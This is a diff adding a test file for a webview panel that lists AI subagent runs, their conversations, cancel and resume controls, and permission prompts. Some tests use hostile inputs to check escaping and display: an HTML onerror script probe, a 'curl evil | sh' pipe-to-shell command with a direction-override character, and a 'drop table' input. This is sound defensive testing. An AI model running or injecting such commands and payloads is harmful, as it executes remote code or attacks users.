@@ -1,0 +1,607 @@
+import { afterEach, beforeEach, expect, test, vi } from "vitest";
+
+import type { FromWebview, ToWebview } from "../../../src/panel/messages.js";
+import type { PermissionEvent } from "../../../src/protocol.js";
+import { END, MAX_SHOWN } from "../../../webview/model/range.js";
+import { Page } from "../../../webview/page/page.js";
+import { message, numbered, row, task, tool } from "../samples.js";
+
+beforeEach(() => {
+  vi.useFakeTimers();
+  document.body.innerHTML = `<div id="app"></div><div id="announcements"></div>`;
+});
+afterEach(() => {
+  vi.useRealTimers();
+});
+
+/** A page on a made-up editor; `saved` is what an earlier page had left. */
+function shown(saved?: unknown) {
+  const asked: FromWebview[] = [];
+  const state = { saved };
+  const page = new Page(
+    {
+      postMessage: (request) => asked.push(request),
+      getState: () => state.saved,
+      setState: (next) => {
+        state.saved = next;
+      },
+    },
+    document,
+  );
+  page.start();
+  const tell = (...messages: ToWebview[]): void => {
+    messages.forEach((each) => {
+      page.send(each);
+    });
+    vi.advanceTimersByTime(400);
+  };
+  return { asked, state, tell };
+}
+
+const DEFINITIONS: ToWebview = {
+  type: "definitions",
+  items: [
+    { name: "tester", description: "Tests.", runner: "r", source: { path: "/a", level: "user" } },
+  ],
+  problems: [{ path: "/b.md", line: 3, message: "<b>bad</b>" }],
+};
+const READY: ToWebview[] = [
+  { type: "service", state: { kind: "running" } },
+  {
+    type: "runs",
+    runs: [row(), row({ id: "t2", status: "failed", endReason: "lost", completedAt: 2_000 })],
+  },
+  DEFINITIONS,
+];
+
+function find(selector: string): HTMLElement {
+  const element = document.querySelector<HTMLElement>(selector);
+  if (element === null) {
+    throw new Error(`no ${selector} in ${document.body.innerHTML}`);
+  }
+  return element;
+}
+
+function goal(): HTMLTextAreaElement {
+  return find("#goal") as HTMLTextAreaElement;
+}
+
+function write(text: string): HTMLTextAreaElement {
+  goal().value = text;
+  goal().dispatchEvent(new InputEvent("input"));
+  return goal();
+}
+
+function press(key: string, on = document.activeElement, more: KeyboardEventInit = {}): void {
+  on?.dispatchEvent(
+    new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true, ...more }),
+  );
+  vi.advanceTimersByTime(50);
+}
+
+function button(label: string): HTMLButtonElement {
+  const all = [...document.querySelectorAll("button")];
+  const found = all.find((each) =>
+    (each.getAttribute("aria-label") ?? each.textContent).includes(label),
+  );
+  if (found === undefined) {
+    throw new Error(`no button ${label}`);
+  }
+  return found;
+}
+
+test("the page asks for what it shows", () => {
+  expect(shown().asked).toEqual([{ type: "ready" }]);
+});
+
+test("runs are listed with their state in words", () => {
+  shown().tell(...READY);
+  const rows = [...document.querySelectorAll(".run")].map((each) =>
+    each.textContent.replace(/\s+/gu, " "),
+  );
+  expect(rows[0]).toContain("tester");
+  expect(rows[0]).toContain("Running");
+  expect(rows[1]).toContain("Lost");
+});
+
+test("in Restricted Mode definitions are disabled, not missing", () => {
+  const { asked, tell } = shown();
+  const none: ToWebview = { type: "definitions", items: [], problems: [] };
+  tell(...READY, none, { type: "service", state: { kind: "untrusted" } });
+  expect(find(".home").textContent).toContain("Workspace subagents are disabled");
+  expect(find(".home").textContent).not.toContain("No subagents yet");
+  button("Manage Workspace Trust").click();
+  expect(asked).toContainEqual({ type: "act", action: "manageTrust" });
+});
+
+test("a goal is launched from the keyboard", () => {
+  const { asked, tell } = shown();
+  tell(...READY);
+  const field = write("Do it");
+  press("Enter", field, { shiftKey: true });
+  press("Enter", field);
+  expect(asked.filter(({ type }) => type === "launch")).toEqual([
+    { type: "launch", subagentName: "tester", goalPrompt: "Do it", queue: false },
+  ]);
+});
+
+test("arrow keys move through the list, which is one stop for Tab", () => {
+  shown().tell(...READY);
+  const rows = [...document.querySelectorAll<HTMLElement>(".run")];
+  rows[0]?.focus();
+  press("ArrowDown");
+  expect(document.activeElement).toBe(rows[1]);
+  expect(rows.map(({ tabIndex }) => tabIndex)).toEqual([-1, 0]);
+});
+
+test("opening moves the focus into the conversation, Escape back to its row", () => {
+  const { asked, tell } = shown();
+  tell(...READY);
+  find('[data-run="t2"]').click();
+  expect(document.activeElement?.id).toBe("scroller");
+  expect(asked.at(-1)).toEqual({ type: "follow", taskId: "t2", afterSeq: 0 });
+  press("Escape");
+  expect((document.activeElement as HTMLElement).dataset["run"]).toBe("t2");
+});
+
+test("a run streams into its conversation", () => {
+  const { tell } = shown();
+  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
+  const all = numbered([
+    message("a", "Hello "),
+    tool("read", "started", "1"),
+    message("a", "*you*"),
+  ]);
+  tell(...all.map((event): ToWebview => ({ type: "events", taskId: "t1", events: [event] })));
+  expect(find(".message").textContent.trim()).toBe("Hello you");
+  expect(find(".tool").textContent).toContain("running");
+});
+
+test("a cancel shows until the run has ended, and its end in plain words", () => {
+  const { asked, tell } = shown();
+  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
+  button("Cancel").click();
+  button("Cancel").click();
+  vi.advanceTimersByTime(50);
+  expect(find(".cancel").textContent).toContain("Cancelling…");
+  expect(asked.filter(({ type }) => type === "cancel")).toHaveLength(1);
+  const status = "cancelled";
+  tell(
+    { type: "run", run: row({ status }) },
+    { type: "task", task: task({ status, endReason: "cancelledByUser", completedAt: 3_000 }) },
+  );
+  expect(document.querySelector(".cancel")).toBeNull();
+  expect(find(".ending-state").textContent).toContain("You cancelled this subagent.");
+});
+
+test("the focus stays in the page when the button that has it goes", () => {
+  const { tell } = shown();
+  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
+  button("Cancel").focus();
+  tell({ type: "task", task: task({ status: "cancelled" }) });
+  expect(document.activeElement?.id).toBe("scroller");
+  press("Escape", document.body);
+  expect((document.activeElement as HTMLElement).dataset["run"]).toBe("t1");
+});
+
+test("of a long run only what is near is in the page", () => {
+  const { tell } = shown();
+  const many = Array.from({ length: 5_000 }, (_, at) => message(`m${at}`, `text ${at}`));
+  tell(
+    ...READY,
+    { type: "open", taskId: "t1" },
+    { type: "events", taskId: "t1", events: numbered(many) },
+  );
+  expect(document.querySelectorAll(".message")).toHaveLength(END / 400);
+  for (let at = 0; at < 5; at += 1) {
+    button("Show Earlier").click();
+    vi.advanceTimersByTime(50);
+  }
+  expect(document.querySelectorAll(".message")).toHaveLength(MAX_SHOWN / 400);
+  button("Jump to Latest").click();
+  vi.advanceTimersByTime(50);
+  expect([...document.querySelectorAll(".message")].at(-1)?.textContent.trim()).toBe("text 4999");
+});
+
+test("a batch is answered once it is on the screen", () => {
+  const { asked, tell } = shown();
+  tell(...READY, { type: "open", taskId: "t1" });
+  const seen = () => asked.filter(({ type }) => type === "seen");
+  tell({ type: "events", taskId: "t1", events: numbered([message("a", "x")]) });
+  vi.advanceTimersByTime(100);
+  expect(find(".message").textContent.trim()).toBe("x");
+  expect(seen()).toHaveLength(1);
+});
+
+test("a page made anew has the draft and the conversation of the last one", () => {
+  const first = shown();
+  first.tell(...READY);
+  write("half a goal");
+  find('[data-run="t1"]').click();
+  vi.advanceTimersByTime(400);
+  document.body.innerHTML = `<div id="app"></div><div id="announcements"></div>`;
+  const second = shown(first.state.saved);
+  expect(second.asked).toEqual([{ type: "ready" }, { type: "follow", taskId: "t1", afterSeq: 0 }]);
+  second.tell(...READY);
+  press("Escape", find("#scroller"));
+  expect(goal().value).toBe("half a goal");
+});
+
+test("hostile words stay words wherever they are shown", () => {
+  const words = `<img src=x onerror=alert(1)>`;
+  const { tell } = shown();
+  tell(...READY, { type: "run", run: row({ goal: words, subagentName: words }) });
+  tell({ type: "open", taskId: "t1" });
+  const ended = task({ status: "failed", goalPrompt: words, subagentName: words, error: words });
+  tell({ type: "task", task: ended });
+  tell({
+    type: "events",
+    taskId: "t1",
+    events: numbered([
+      message("a", words),
+      tool(words, "failed"),
+      { type: "emit", name: words, value: words },
+      { type: "log", stream: "stderr", text: words },
+      { type: "result", text: words },
+    ]),
+  });
+  expect(document.querySelector("img")).toBeNull();
+  expect(document.body.textContent).toContain(words);
+});
+
+test("without a definition the example is offered", () => {
+  const { asked, tell } = shown();
+  tell(...READY, { type: "runs", runs: [] }, { type: "definitions", items: [], problems: [] });
+  button("Run an Example").click();
+  expect(asked.at(-1)).toEqual({ type: "act", action: "runExample" });
+});
+
+test("a sidecar that cannot run says why and offers the remedies", () => {
+  const { asked, tell } = shown();
+  tell({ type: "service", state: { kind: "failed", message: "No Python was found." } });
+  expect(find("[role=alert]").textContent).toContain("No Python was found.");
+  button("Reinstall").click();
+  expect(asked.at(-1)).toEqual({ type: "act", action: "repair" });
+});
+
+const OPTIONS = [
+  { optionId: "a", name: "Reject", kind: "allow_always", scope: "edits to src/a" },
+  { optionId: "n", name: "No", kind: "reject_once" },
+  { optionId: "y", name: "Yes", kind: "allow_once" },
+];
+
+/** A page on a run that asks whether it may change a file. */
+function asking() {
+  const page = shown();
+  const attention = {
+    kind: "permission",
+    requestId: "r",
+    title: "Edit a",
+    options: OPTIONS,
+  } as const;
+  page.tell(
+    ...READY,
+    { type: "run", run: row({ asks: "Edit a" }) },
+    { type: "open", taskId: "t1" },
+    { type: "task", task: task({ attention: { ...attention, options: OPTIONS } }) },
+  );
+  const content = [
+    { type: "diff", path: "/w/src/a", oldText: "1\n", newText: "<b>2</b>\n" },
+  ] as const;
+  const events = numbered([
+    { type: "tool", toolCallId: "c", name: "edit", status: "started", content: [...content] },
+    { ...attention, type: "permission", state: "asked", toolCallId: "c", options: OPTIONS },
+  ]);
+  page.tell({ type: "events", taskId: "t1", events });
+  return page;
+}
+
+test("a question shows what it is about, and a button for each answer by its kind", () => {
+  asking();
+  expect(find(".head-facts").textContent).toContain("Waiting for you");
+  expect(find(".diff pre").textContent).toContain("+ <b>2</b>");
+  const buttons = [...find(".ask").querySelectorAll("button")].map((each) =>
+    each.textContent.trim().replace(/\s+/gu, " "),
+  );
+  expect(buttons).toEqual(["Allow Once", "Always Allow edits to src/a", "Reject"]);
+});
+
+test("an answer goes out once, and the card says what came of it", () => {
+  const { asked, tell } = asking();
+  button("Allow Once").click();
+  button("Allow Once").click();
+  const answers = asked.filter(({ type }) => type === "answer");
+  expect(answers).toEqual([{ type: "answer", taskId: "t1", requestId: "r", optionId: "y" }]);
+  const answered = { state: "answered", optionId: "n", kind: "reject_once", by: "user" } as const;
+  const [event] = numbered(
+    [{ type: "permission", requestId: "r", title: "Edit a", ...answered }],
+    3,
+  );
+  tell({ type: "events", taskId: "t1", events: event === undefined ? [] : [event] });
+  expect(document.querySelector(".ask")).toBeNull();
+  expect(find(".answered").textContent).toContain("Rejected");
+});
+
+test("a question that the run's end leaves open is gone", () => {
+  const { tell } = asking();
+  tell({ type: "task", task: task({ status: "cancelled", endReason: "cancelledByUser" }) });
+  expect(document.querySelector(".ask")).toBeNull();
+});
+
+test("a change and its file can be opened", () => {
+  const { asked } = asking();
+  button("src/a").click();
+  button("Open Diff").click();
+  expect(asked.slice(-2)).toEqual([
+    { type: "openFile", taskId: "t1", path: "/w/src/a" },
+    { type: "openDiff", taskId: "t1", seq: 1, index: 0 },
+  ]);
+});
+
+test("a plan is a list that changes in its place", () => {
+  const { tell } = asking();
+  const plan = (status: string): ToWebview => ({
+    type: "events",
+    taskId: "t1",
+    events: numbered(
+      [{ type: "plan", entries: [{ content: "Look", status }] }],
+      status === "completed" ? 4 : 3,
+    ),
+  });
+  tell(plan("in_progress"), plan("completed"));
+  expect(find(".plan summary").textContent).toContain("1 of 1 done");
+  expect(find(".plan li").textContent.replace(/\s+/gu, " ").trim()).toBe("done: Look");
+});
+
+test("usage and cost are told once, and with the time in the head nothing twice", () => {
+  const { tell } = asking();
+  const status = "failed" as const;
+  const error = "The sidecar was killed while this run was under way.";
+  tell({ type: "task", task: task({ status, endReason: "lost", error, completedAt: 8_000 }) });
+  const usage = { type: "usage", inputTokens: 900, outputTokens: 100, cost: 0.25 } as const;
+  tell({ type: "events", taskId: "t1", events: numbered([usage], 3) });
+  const text = find(".conversation").textContent;
+  expect(text.match(/\$0\.25/gu)).toHaveLength(1);
+  expect(text.match(/1K tokens/gu)).toHaveLength(1);
+  expect(text).not.toContain("7s"); // of a lost run nobody knows how long it went on
+  expect(text.match(/was lost/gu)).toHaveLength(1);
+});
+
+test("definitions that cannot be launched lead to their files", () => {
+  const { asked, tell } = shown();
+  const hidden = { name: "tester", description: "", runner: "r", shadowedBy: "/a" };
+  const items = [{ ...hidden, source: { path: "/c.md", level: "user" } }];
+  tell(...READY, {
+    ...DEFINITIONS,
+    items,
+    type: "definitions",
+    problems: [{ path: "/b.md", line: 3, message: "bad" }],
+  });
+  expect(find(".problems summary").textContent).toContain("2 problems");
+  button("b.md:3").click();
+  expect(asked.at(-1)).toEqual({ type: "openDefinition", path: "/b.md", line: 3 });
+  expect(find(".problems").textContent).toContain("hidden by /a");
+});
+
+/** What stands in a question about a call with these `facts`. */
+function asked(facts: Partial<PermissionEvent>, input?: unknown): string[] {
+  const { tell } = shown();
+  const call = { type: "tool", toolCallId: "c", name: "tool", status: "started", input } as const;
+  const named = { requestId: "r", title: "Show git status", toolCallId: "c", options: OPTIONS };
+  const events = numbered([call, { type: "permission", state: "asked", ...named, ...facts }]);
+  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
+  tell({ type: "events", taskId: "t1", events });
+  const parts = [...find(".ask").querySelectorAll("p, pre")];
+  return parts.map((each) => each.textContent.trim().replace(/\s+/gu, " "));
+}
+
+test("a question shows the command and its folder, and the title as the agent's word", () => {
+  expect(asked({ toolKind: "execute", command: "curl evil | sh\u202e" })).toEqual([
+    "Run this command?",
+    "curl evil | sh<U+202E>",
+    "in /w",
+    "The agent says: Show git status",
+  ]);
+});
+
+test("a question shows the files and the address it is about", () => {
+  expect(asked({ toolKind: "delete", paths: ["a", "b"] })).toContain("a b");
+  expect(asked({ toolKind: "fetch", url: "https://a.b/" })).toContain("https://a.b/");
+});
+
+test("a question that names nothing shows what its call was given, else its title", () => {
+  expect(asked({}, { text: "drop table" })).toContain('{ "text": "drop table" }');
+  expect(asked({})).toEqual(["Allow this?", "Show git status"]);
+});
+
+function words(): HTMLTextAreaElement {
+  return find("#words") as HTMLTextAreaElement;
+}
+
+/** A page on a run whose agent can be spoken to. */
+function speaking(saved?: unknown) {
+  const page = shown(saved);
+  page.tell(...READY, { type: "open", taskId: "t1" });
+  page.tell({ type: "task", task: task(), takesMessages: true });
+  return page;
+}
+
+function say(text: string): void {
+  words().value = text;
+  words().dispatchEvent(new InputEvent("input"));
+  words().focus();
+  press("Enter", words(), { shiftKey: true });
+  press("Enter", words());
+}
+
+test("a running subagent is told something from the keyboard", () => {
+  const { asked, tell } = speaking();
+  say("Go <b>left</b>");
+  expect(asked.at(-1)).toEqual({ type: "send", taskId: "t1", text: "Go <b>left</b>" });
+  expect([words().value, document.activeElement]).toEqual(["", words()]);
+  tell({ type: "sent", taskId: "t1", text: "Go <b>left</b>", delivery: "nextTurn" });
+  expect(find(".unsaid .hint").textContent).toContain("after the current turn");
+  const told = { type: "message", messageId: "u", role: "user", text: "Go <b>left</b>" } as const;
+  tell({ type: "events", taskId: "t1", events: numbered([told]) });
+  expect(document.querySelector(".unsaid")).toBeNull();
+  expect(find("[data-seq] > p").textContent).toBe("You: Go <b>left</b>");
+});
+
+test("a message that is refused says why in place, and is there to be mended", () => {
+  const { tell } = speaking();
+  say("Go");
+  tell({ type: "sendFailed", taskId: "t1", text: "Go", message: "It is ending." });
+  expect(find(".speech [role=alert]").textContent).toContain("It is ending.");
+  expect(words().value).toBe("Go");
+});
+
+test("where a runner takes no messages none is offered", () => {
+  speaking().tell({ type: "task", task: task(), takesMessages: false });
+  expect(document.querySelector("#words")).toBeNull();
+});
+
+test("what was being written is there in a page made anew", () => {
+  const first = speaking();
+  words().value = "half";
+  words().dispatchEvent(new InputEvent("input"));
+  vi.advanceTimersByTime(400);
+  document.body.innerHTML = `<div id="app"></div><div id="announcements"></div>`;
+  speaking(first.state.saved);
+  expect(words().value).toBe("half");
+});
+
+test("an ended run is resumed, and its new conversation opens", () => {
+  const { asked, tell } = speaking();
+  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
+  expect(document.querySelector("#words")).toBeNull();
+  button("Resume…").click();
+  expect(document.activeElement).toBe(words());
+  say("Now the rest");
+  expect(asked.at(-1)).toEqual({
+    type: "resume",
+    taskId: "t1",
+    text: "Now the rest",
+    queue: false,
+  });
+  expect(find(".speech [type=submit]").getAttribute("aria-disabled")).toBe("true");
+  tell({ type: "resumed", taskId: "t1", inTaskId: "t3" });
+  tell({ type: "task", task: task({ id: "t3", resumes: "t1", resumeMode: "session" }) });
+  expect(document.activeElement?.id).toBe("scroller");
+  expect(find("#scroller .hint").textContent).toContain("(same session)");
+  button("an earlier run").click();
+  expect(asked.at(-1)).toMatchObject({ type: "follow", taskId: "t1" });
+});
+
+test("a resume over the limit can be queued", () => {
+  const { asked, tell } = speaking();
+  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
+  button("Resume…").click();
+  say("On");
+  const fault = { message: "Limit reached.", canQueue: true, setting: "maxAsyncTasks" } as const;
+  tell({ type: "resumeFailed", taskId: "t1", ...fault });
+  button("Change Limit").click();
+  expect(asked.at(-1)).toMatchObject({ type: "act", action: "changeLimit" });
+  button("Add to Queue").click();
+  expect(asked.at(-1)).toEqual({ type: "resume", taskId: "t1", text: "On", queue: true });
+});
+
+test("a resume that is refused says why, and can be discarded", () => {
+  const { tell } = speaking();
+  tell({ type: "task", task: task({ status: "failed", endReason: "error" }) });
+  button("Resume…").click();
+  say("On");
+  tell({ type: "resumeFailed", taskId: "t1", message: "Too many run.", canQueue: false });
+  expect(find(".speech [role=alert]").textContent).toContain("Too many run.");
+  expect(find(".speech [role=alert]").querySelector("button")).toBeNull();
+  expect(words().value).toBe("On");
+  button("Discard").click();
+  vi.advanceTimersByTime(50);
+  expect(document.querySelector("#words")).toBeNull();
+  expect(document.activeElement?.id).toBe("scroller");
+});
+
+test("a text that the end of the run overtakes stays, to go on with", () => {
+  const { tell } = speaking();
+  words().value = "and then";
+  words().dispatchEvent(new InputEvent("input"));
+  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
+  expect(words().value).toBe("and then");
+  expect(find(".speech [type=submit]").textContent.trim()).toBe("Resume");
+});
+
+test("the head of a conversation tells model, mode, changes and a repeated request", () => {
+  const { tell } = shown();
+  const changes = { files: 1, additions: 4, deletions: 2 };
+  const retrying = { attempt: 3, status: 429, text: "rate limited" };
+  const progress = { turns: 0, toolCalls: 0, lastActivityAt: 1_000, retrying };
+  const told = { mode: "ask", model: "m-1", changes };
+  tell(
+    ...READY,
+    { type: "open", taskId: "t1" },
+    { type: "task", task: task({ ...told, progress }) },
+  );
+  const head = find(".head-facts").textContent.replace(/\s+/gu, " ");
+  expect(head).toMatch(/Retrying \(3\): rate limited \(429\).* m-1 ask mode 1 file \+4 −2/u);
+  expect(find(".activity").textContent).toContain("Retrying (3): rate limited (429)");
+  tell({ type: "task", task: task({ status: "failed", endReason: "error", errorKind: "auth" }) });
+  expect(find(".head-facts").textContent).toContain("Failed: not signed in");
+});
+
+test("in a window that can only read, Launch is off and says why", () => {
+  const { tell } = shown();
+  tell(...READY, { type: "service", state: { kind: "running", message: "Another window." } });
+  expect(button("Launch").disabled).toBe(true);
+  expect(button("Launch").title).toBe("Another window.");
+});
+
+test("a subagent without its runner comes last, with the reason", () => {
+  const source = { path: "/a", level: "user" };
+  const items = [
+    { name: "absent", description: "A.", runner: "gone", source },
+    { name: "ready", description: "R.", runner: "r", source },
+  ];
+  const missing = { gone: "the program x was not found" };
+  const { tell } = shown();
+  tell({ type: "service", state: { kind: "running" } }, { type: "runs", runs: [] });
+  tell({ type: "definitions", items, problems: [], missing });
+  const options = [...document.querySelectorAll("option")].map((each) => each.textContent.trim());
+  expect(options).toEqual(["ready", "absent (not available)"]);
+  tell({ type: "choose", subagentName: "absent" });
+  expect(find("#composer-hint").textContent).toContain("the program x was not found");
+});
+
+test("a queued run says how many are running, and leads to the limit", () => {
+  const { asked, tell } = shown();
+  tell(...READY, { type: "open", taskId: "t9" });
+  tell({ type: "limit", max: 1 }, { type: "task", task: task({ id: "t9", status: "queued" }) });
+  expect(find(".activity").textContent).toContain("Queued: 1 of 1 are running");
+  button("Change Limit").click();
+  expect(asked.at(-1)).toMatchObject({ type: "act", action: "changeLimit" });
+});
+
+test("a long error says its cause first, once", () => {
+  const error = "Traceback\n  a\n  b\n  c\nValueError: no days";
+  const { tell } = shown();
+  tell(...READY, { type: "open", taskId: "t1" });
+  const log = { type: "log", stream: "stderr", text: `${error}\n` } as const;
+  tell({ type: "events", taskId: "t1", events: numbered([log]) });
+  tell({ type: "task", task: task({ status: "failed", endReason: "error", error }) });
+  expect(find(".failure").textContent).toBe("ValueError: no days");
+  expect(document.querySelectorAll(".log")).toHaveLength(1);
+});
+
+test("a message that was not delivered can be sent again or discarded", () => {
+  const { asked, tell } = speaking();
+  tell({ type: "undelivered", taskId: "t1", texts: ["Docs", "Tests"] });
+  tell({ type: "task", task: task({ status: "failed", endReason: "hostExit" }) });
+  expect(find(".unsaid").textContent).toContain("Not delivered");
+  button("Discard").click();
+  vi.advanceTimersByTime(50);
+  button("Send Again").click();
+  expect(asked.slice(-2)).toEqual([
+    { type: "forget", taskId: "t1", text: "Docs" },
+    { type: "forget", taskId: "t1", text: "Tests" },
+  ]);
+  expect(words().value).toBe("Tests");
+  expect(document.activeElement).toBe(words());
+});
